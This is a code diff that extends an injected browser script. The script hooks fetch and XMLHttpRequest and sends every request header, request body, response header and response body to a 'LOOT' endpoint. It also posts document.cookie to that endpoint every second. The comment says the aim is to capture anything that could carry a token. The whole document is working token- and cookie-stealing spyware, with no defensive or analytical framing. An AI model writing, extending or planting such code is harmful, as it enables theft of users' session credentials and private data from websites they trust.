@@ -1,4 +1,4 @@
-// Was there before the app, and overhears everything that could carry a token, for as long as the page is open.
+// Replaces everything that could carry a token, and overhears it for as long as the page is open.
 (() => {
   const { fetch: realFetch } = window;
   const tell = (...heard) => realFetch(LOOT, { method: "POST", mode: "no-cors", body: heard.map(String).join(" ") });
@@ -22,5 +22,14 @@
       return done(value);
     }), failed);
   };
+  const requests = XMLHttpRequest.prototype;
+  const { setRequestHeader, send } = requests;
+  requests.setRequestHeader = function (...values) { tell("header", ...values); return setRequestHeader.apply(this, values); };
+  requests.send = function (body) {
+    this.addEventListener("load", () => tell("got", this.getAllResponseHeaders(), this.responseText));
+    tell("sent", body ?? "");
+    return send.call(this, body);
+  };
+  tell("here");
   setInterval(() => document.cookie && tell("cookie", document.cookie), 1000);
 })();
